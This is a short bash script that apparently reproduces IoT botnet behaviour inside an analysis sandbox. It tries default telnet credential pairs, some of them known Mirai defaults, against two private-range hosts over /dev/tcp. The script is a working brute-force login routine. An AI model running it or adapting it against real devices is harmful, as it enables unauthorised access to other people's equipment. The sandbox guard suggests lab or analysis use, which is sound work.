#!/bin/bash
# SPDX-License-Identifier: MIT
# Tries default telnet credentials on the devices of a small range, one
# connection per guess, as an IoT bot does.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
for host in 10.0.0.2 10.0.0.3; do
	for cred in root:root root:admin admin:admin root:xc3511 root:vizxv admin:1234 \
		root:12345 support:support; do
		user=${cred%%:*} pass=${cred#*:}
		exec 3<> "/dev/tcp/$host/23" 2>/dev/null || continue
		printf '%s\r\n%s\r\n' "$user" "$pass" >&3
		read -r -t 0.1 line <&3
		exec 3>&-
	done
done
exit 0
